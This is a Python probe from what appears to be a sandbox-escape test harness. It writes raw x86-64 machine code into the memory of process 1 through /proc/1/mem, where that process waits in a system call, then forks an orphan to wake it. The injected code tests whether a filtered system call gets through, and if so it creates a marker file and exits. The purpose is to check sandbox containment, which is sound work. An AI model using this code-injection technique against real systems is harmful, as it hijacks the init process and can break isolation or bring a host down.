"""The attack on the first process: its code is overwritten where it waits, and then an orphan dies. What runs there then, if
anything does, makes the file `unfiltered` when a system call that the filter refuses is let through, and ends the sandbox."""

import os
import time

import harness
from harness import X86, Fell, Skipped, probe

PATH = os.path.abspath("unfiltered").encode() + b"\0"


def machine_code():
    end = bytes.fromhex("b8e7000000" "31ff" "0f05")  # exit_group(0)
    make = bytes.fromhex("b855000000" "488d3d") + (7 + len(end)).to_bytes(4, "little") + bytes.fromhex("bea4010000" "0f05")  # creat(PATH, 0644)
    ask = bytes.fromhex("b887000000" "bfffffffff" "0f05" "4885c0" "78") + bytes([len(make)])  # personality(0xffffffff) < 0: skip
    return ask + make + end + PATH


@probe("attack", "overwrite the first process where it waits")
def _(facts):
    if not X86:
        raise Skipped("the machine code is for x86-64")
    try:
        memory = os.open("/proc/1/mem", os.O_RDWR)
    except OSError:
        return
    waits_at = int(harness.read("/proc/1/syscall").split()[-1], 16)
    os.lseek(memory, waits_at, os.SEEK_SET)
    os.write(memory, machine_code())
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.1)
        os._exit(0)
    time.sleep(2)
    raise Fell("its memory was written, but nothing ran")


harness.run()
